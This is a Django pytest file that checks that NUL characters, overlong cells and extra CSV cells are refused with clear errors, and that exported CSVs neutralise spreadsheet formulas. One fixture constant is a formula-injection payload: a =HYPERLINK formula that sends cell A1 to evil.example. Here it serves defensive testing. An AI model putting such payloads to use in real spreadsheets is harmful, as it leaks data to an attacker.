"""Bad input anywhere gets a clear answer naming where it is, never a server error, and
nothing is stored.

A NUL character matters most on PostgreSQL, which refuses it in text: these tests run on
SQLite and, with DATABASE_URL set, on PostgreSQL (where a NUL that reached a query would be
a 500). CSV files are refused with the row and column of a cell the csv module cannot hold
or a row with more cells than the header; every CSV we write defuses formulas in text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.http import UnreadablePostError
from django.utils import timezone

from flotilla.audit.models import AuditEvent
from flotilla.authz import actions as authz_actions
from flotilla.authz.models import ApiToken, Role, TokenScope
from flotilla.middleware import find_nul
from flotilla.organisations.models import Organisation
from flotilla.reporting.imports import ImportRejected, import_file
from flotilla.reporting.models import Observation
from tests import factories as f

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Open the bed state")'
LIMIT = csv.field_size_limit()
LONG_HEADER = "org_code,site_code,measure,as_of,value\n"
SITREP_HEADER = "Code,Name,Date,G&A beds occ'd\n"


def recent() -> str:
    return (timezone.now() - timedelta(hours=1)).replace(microsecond=0).isoformat()


def upload(body: str, name: str = "mine.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, body.encode())


def to_outside(**changes: object) -> dict[str, object]:
    return {
        "audience": "organisation",
        "audience_organisation": "rx1",
        "groups": ["capacity"],
        "detail": "banded",
        "delay_hours": "24",
        "purpose": "Mutual aid",
        "expires_at": "",
        **changes,
    }


# --- A NUL character in request input ----------------------------------------------------


@dataclass(frozen=True)
class Nul:
    """A request from `who` holding a NUL, and how the refusal must name the place."""

    who: str
    method: str
    path: str
    data: Callable[[], dict[str, object]] | None
    named: str


NUL_REQUESTS = {
    "the reporting form": Nul(
        Role.REPORTER,
        "POST",
        "/o/RN1/report",
        lambda: {"ga_open": "10", "situation": "Busy\x00night"},
        "The form field “situation”",
    ),
    "the name of a form field": Nul(
        Role.REPORTER, "POST", "/o/RN1/report", lambda: {"ga\x00open": "10"}, "“gaopen”"
    ),
    "the upload form": Nul(
        Role.REPORTER,
        "POST",
        "/o/RN1/import",
        lambda: {
            "on_conflict": "la\x00st",
            "file": upload(LONG_HEADER + f"RN1,,ga_open,{recent()},100\n"),
        },
        "The form field “on_conflict”",
    ),
    "the sharing grant form": Nul(
        Role.ORG_ADMIN,
        "POST",
        "/o/RN1/sharing/new",
        lambda: to_outside(purpose="Mutual\x00aid"),
        "The form field “purpose”",
    ),
    "the token form": Nul(
        Role.ORG_ADMIN,
        "POST",
        "/o/RN1/tokens",
        lambda: {"name": "Bed\x00system", "scope": "submit"},
        "The form field “name”",
    ),
    "the invite form": Nul(
        Role.COORDINATOR,
        "POST",
        "/c/{slug}/invite",
        lambda: {"code": "RX\x001"},
        "The form field “code”",
    ),
    "the name of an upload field": Nul(
        Role.REPORTER,
        "POST",
        "/o/RN1/import",
        lambda: {"fi\x00le": upload(LONG_HEADER + f"RN1,,ga_open,{recent()},100\n")},
        "The upload field “file”",
    ),
    "a query parameter named only by a NUL": Nul(
        Role.VIEWER, "GET", "/c/{slug}/", lambda: {"\x00": "1"}, "“(a field with no name)”"
    ),
    "the dashboard's as-at time": Nul(
        Role.VIEWER,
        "GET",
        "/c/{slug}/",
        lambda: {"at": "2026-01-05T08:00\x00"},
        "The field “at”",
    ),
    "an organisation code in the address": Nul(
        Role.VIEWER, "GET", "/o/RN1%00/", None, "The web address contains a NUL character"
    ),
    "a site code in the address": Nul(
        Role.VIEWER, "GET", "/o/RS1/s/RS%00101/", None, "The web address contains a NUL character"
    ),
}


@pytest.mark.parametrize("case", NUL_REQUESTS.values(), ids=NUL_REQUESTS.keys())
def test_a_nul_in_request_input_is_refused_with_400_naming_where_it_is(client, cast, case):
    client.force_login(cast.people[case.who])
    before = AuditEvent.objects.count()
    path = case.path.format(slug=cast.collab.slug)
    data = case.data() if case.data else None
    send = client.post if case.method == "POST" else client.get
    response = send(path, data)
    assert response.status_code == 400
    page = response.content.decode()
    assert case.named in page
    assert "\x00" not in page
    assert "Your request could not be used" in page
    assert AuditEvent.objects.count() == before
    assert not ApiToken.objects.exists()
    assert not Observation.objects.exists()


def test_a_nul_in_the_session_cookie_is_refused_without_reading_the_session(client, cast):
    client.force_login(cast.people[Role.VIEWER])
    client.cookies["sessionid"] = "abc\x00defghijkl"
    response = client.get(f"/c/{cast.collab.slug}/")
    assert response.status_code == 400
    page = response.content.decode()
    assert "The cookie “sessionid” contains a NUL character" in page
    assert "Clear this site's cookies" in page


def test_a_nul_in_a_header_is_refused(client, cast):
    client.force_login(cast.people[Role.VIEWER])
    response = client.get("/", headers={"Referer": "https://example.nhs.uk/\x00"})
    assert response.status_code == 400
    assert "The header “Referer”" in response.content.decode()


def test_a_body_the_client_stopped_sending_is_left_to_the_view(rf):
    request = rf.post("/o/RN1/report", {"ga_open": "10"})

    class Broken(io.RawIOBase):
        def read(self, size=-1):
            raise UnreadablePostError("connection reset")

    request._stream = Broken()
    assert find_nul(request) is None


def test_requests_without_a_nul_pass_the_guard(client, cast):
    client.force_login(cast.people[Role.ORG_ADMIN])
    page = client.post("/o/RN1/tokens", {"name": "Bed system", "scope": "submit"})
    assert page.status_code == 200
    assert ApiToken.objects.get().name == "Bed system"


def api_token(cast, scope: TokenScope, name: str = "system") -> str:
    _, secret = authz_actions.issue_token(
        by=cast.people[Role.ORG_ADMIN], organisation=cast.north, name=name, scope=scope
    )
    return secret


def test_a_nul_in_an_api_report_is_refused_with_422_naming_the_value(client, cast):
    body = {"values": [{"measure": "situation", "as_of": recent(), "text": "Busy\x00night"}]}
    response = client.post(
        "/api/reports",
        body,
        content_type="application/json",
        headers={"Authorization": f"Bearer {api_token(cast, TokenScope.SUBMIT)}"},
    )
    assert response.status_code == 422
    assert response.json()["errors"] == [
        {"index": 0, "field": "values[0].text", "message": "must not contain NUL characters"}
    ]
    assert not Observation.objects.exists()


@pytest.mark.parametrize(
    ("path", "headers", "field"),
    [
        ("/api/organisations/RN1%00/history?measure=ga_open", {}, "path"),
        ("/api/organisations/RN1/history?measure=ga_open&site=RN%00101", {}, "site"),
        ("/api/organisations/RN1/history?measure=ga%00open", {}, "measure"),
        ("/api/reports", {"Idempotency-Key": "key\x00one"}, "Idempotency-Key"),
    ],
    ids=["path", "query", "measure", "idempotency key"],
)
def test_a_nul_in_an_api_address_query_or_header_is_refused_with_400_json(
    client, cast, path, headers, field
):
    secret = api_token(cast, TokenScope.SUBMIT if path == "/api/reports" else TokenScope.READ)
    headers = {"Authorization": f"Bearer {secret}", **headers}
    if path == "/api/reports":
        body = {"values": [{"measure": "ga_open", "as_of": recent(), "value": 1}]}
        response = client.post(path, body, content_type="application/json", headers=headers)
    else:
        response = client.get(path, headers=headers)
    assert response.status_code == 400
    assert response.json()["errors"] == [
        {"index": None, "field": field, "message": "must not contain NUL characters"}
    ]
    assert "NUL" in response.json()["detail"]
    assert not Observation.objects.exists()


# --- A NUL character, an overlong cell or extra cells in an imported file ----------------


def uploaded_problems(client, cast, body: str) -> str:
    client.force_login(cast.people[Role.REPORTER])
    response = client.post("/o/RN1/import", {"file": upload(body)})
    assert response.status_code == 200
    return response.content.decode()


def problem_rows(page: str) -> list[tuple[str, str, str]]:
    table = page.split('id="problems"')[1].split("</tbody>")[0]
    rows = []
    for tr in table.split("<tr>")[2:]:
        cells = [c.split("</td>")[0] for c in tr.split("<td>")[1:]]
        rows.append(tuple(cells))
    return rows


def test_an_uploaded_file_with_a_nul_is_refused_naming_row_and_column(client, cast):
    body = LONG_HEADER + f"RN1,,ga_open,{recent()},100\nRN1,,situation,{recent()},Busy\x00night\n"
    page = uploaded_problems(client, cast, body)
    [(row, column, message)] = problem_rows(page)
    assert (row, column) == ("3", "value")
    assert "NUL character" in message
    assert "Nothing was stored" in page
    assert not Observation.objects.exists()


def test_an_uploaded_cell_longer_than_the_csv_limit_is_refused_naming_row_and_column(client, cast):
    body = (
        LONG_HEADER
        + f"RN1,,ga_open,{recent()},100\nRN1,,situation,{recent()},{'x' * (LIMIT + 1)}\n"
    )
    page = uploaded_problems(client, cast, body)
    [(row, column, message)] = problem_rows(page)
    assert (row, column) == ("3", "value")
    assert f"longer than {LIMIT:,} characters" in message
    assert not Observation.objects.exists()


def test_an_unclosed_quote_is_explained_at_the_row_where_it_opens(client, cast):
    rows = "".join(f"RN1,,ga_open,{recent()},{n}\n" for n in range(LIMIT // 40))
    body = LONG_HEADER + f'RN1,,situation,{recent()},"Busy night\n' + rows
    page = uploaded_problems(client, cast, body)
    [(row, column, message)] = problem_rows(page)
    assert (row, column) == ("2", "value")
    assert "quote mark" in message
    assert not Observation.objects.exists()


def test_an_uploaded_row_with_more_cells_than_the_header_is_refused_with_both_counts(client, cast):
    body = LONG_HEADER + f"RN1,,situation,{recent()},Beds full, ED busy\n"
    page = uploaded_problems(client, cast, body)
    [(row, column, message)] = problem_rows(page)
    assert (row, column) == ("2", "F")
    assert "this row has 6 cells but the header has 5 columns" in message
    assert "&#39;ED busy&#39; belongs to no column" in message
    assert not Observation.objects.exists()


def test_empty_cells_beyond_the_header_are_refused_too_naming_row_and_column(client, cast):
    page = uploaded_problems(client, cast, LONG_HEADER + f"RN1,,ga_open,{recent()},100,,\n")
    assert "Nothing was stored" in page
    assert "this row has 7 cells but the header has 5 columns" in page
    assert "remove the commas at the end of the row" in page
    assert "<td>2</td><td>F</td>" in page
    assert not Observation.objects.exists()


def sitrep_file(tmp_path: Path, rows: str) -> Path:
    path = tmp_path / "sitrep.csv"
    path.write_text(SITREP_HEADER + rows, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        (
            "RZ1,New Trust,2026-01-05,100\nRZ2,Other Trust,2026-01-05,1\x002\n",
            'row 3, column "G&A beds occ\'d": contains a NUL character',
        ),
        (
            f'RZ1,New Trust,2026-01-05,100\nRZ2,Other Trust,2026-01-05,"{"9" * (LIMIT + 5)}"\n',
            f'row 3, column "G&A beds occ\'d": a cell is longer than {LIMIT:,} characters',
        ),
        (
            "RZ1,New Trust,2026-01-05,100\nRZ2,Other Trust,2026-01-05,1,2\n",
            "row 3, column 'E': this row has 5 cells but the header has 4 columns",
        ),
        (
            '"' + "C" * (LIMIT + 1) + '"\n',
            f"row 2, column 'Code': a cell is longer than {LIMIT:,} characters",
        ),
    ],
    ids=["nul", "long cell", "extra cell", "long code"],
)
def test_the_import_command_refuses_a_bad_file_whole_naming_row_and_column(
    tmp_path, rows, expected
):
    organisations = Organisation.objects.count()
    with pytest.raises(CommandError) as refused:
        call_command("import-sitreps", str(sitrep_file(tmp_path, rows)))
    assert expected in str(refused.value)
    assert "rejected, nothing stored" in str(refused.value)
    assert Organisation.objects.count() == organisations
    assert not Observation.objects.exists()


def test_a_header_that_cannot_be_read_is_named_not_called_an_unknown_format(tmp_path):
    path = tmp_path / "odd.csv"
    path.write_text('Code,"' + "N" * (LIMIT + 1) + '",Date\n', encoding="utf-8")
    with pytest.raises(ImportRejected) as refused:
        import_file(by=f.SYSTEM, path_or_stream=path, name="odd.csv")
    [problem] = refused.value.problems
    assert (problem.row, problem.field) == (1, "B")
    assert "longer than" in problem.message


def test_a_nul_in_a_header_is_named_by_the_columns_letter(tmp_path):
    path = tmp_path / "odd.csv"
    path.write_text("Code,Na\x00me,Date\n", encoding="utf-8")
    with pytest.raises(ImportRejected) as refused:
        import_file(by=f.SYSTEM, path_or_stream=path, name="odd.csv", fmt="sitrep")
    [problem] = refused.value.problems
    assert (problem.row, problem.field) == (1, "B")


# --- Formulas in the CSVs we write -------------------------------------------------------


@pytest.fixture
def formula_site(cast):
    """South reports a formula as its situation, at a site whose code starts like one."""
    site = f.SiteFactory(organisation=cast.south, code="=1+1", name="Formula General")
    when = timezone.now() - timedelta(hours=1)
    f.report(cast.south, when, by=cast.people["south_reporter"], ga_open=200, situation=HYPERLINK)
    f.report(cast.south, when, site=site, by=cast.people["south_reporter"], ga_open=80)
    return site


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_dashboard_csv_defuses_text_and_keeps_numbers(client, cast, formula_site):
    client.force_login(cast.people[Role.VIEWER])
    rows = read_csv(client.get(f"/c/{cast.collab.slug}/export.csv").content.decode())
    assert ["RS1", "'=1+1", "ga_open", "80"] in [r[:4] for r in rows]
    assert ["RS1", "", "ga_open", "200"] in [r[:4] for r in rows]


def test_the_site_csv_defuses_text_and_keeps_numbers(client, cast, formula_site):
    client.force_login(cast.people[Role.VIEWER])
    body = client.get("/o/RS1/s/=1+1/?range=day&format=csv").content.decode()
    assert ["RS1", "'=1+1", "ga_open", "80"] in [r[:4] for r in read_csv(body)]


def test_the_export_command_defuses_a_reported_formula(cast, formula_site, tmp_path):
    out = tmp_path / "picture.csv"
    call_command("export", "--at", timezone.now().isoformat(), "--out", str(out))
    rows = {
        (r["org_code"], r["site_code"], r["measure"]): r["value"]
        for r in csv.DictReader(out.open())
    }
    assert rows[("RS1", "", "situation")] == "'" + HYPERLINK
    assert rows[("RS1", "", "ga_open")] == "200"
    assert rows[("RS1", "'=1+1", "ga_open")] == "80"


def test_the_access_record_csv_defuses_a_token_name_that_is_a_formula(client, cast, formula_site):
    secret = api_token(cast, TokenScope.READ, name=HYPERLINK)
    client.get(
        f"/api/collaboratives/{cast.collab.slug}/picture",
        headers={"Authorization": f"Bearer {secret}"},
    )
    admin = f.UserFactory(username="south_admin")
    f.member(admin, cast.south, Role.ORG_ADMIN)
    client.force_login(admin)
    rows = read_csv(client.get("/o/RS1/access?format=csv").content.decode())
    readers = [r[1] for r in rows[1:]]
    assert readers
    assert all(r.startswith("'" + HYPERLINK) for r in readers)


def test_the_refusal_page_shows_a_field_name_as_text_not_markup(client):
    response = client.get("/", {"<b>at</b>": "x\x00"})
    assert response.status_code == 400
    page = response.content.decode()
    assert "“&lt;b&gt;at&lt;/b&gt;”" in page
    assert "<b>at</b>" not in page
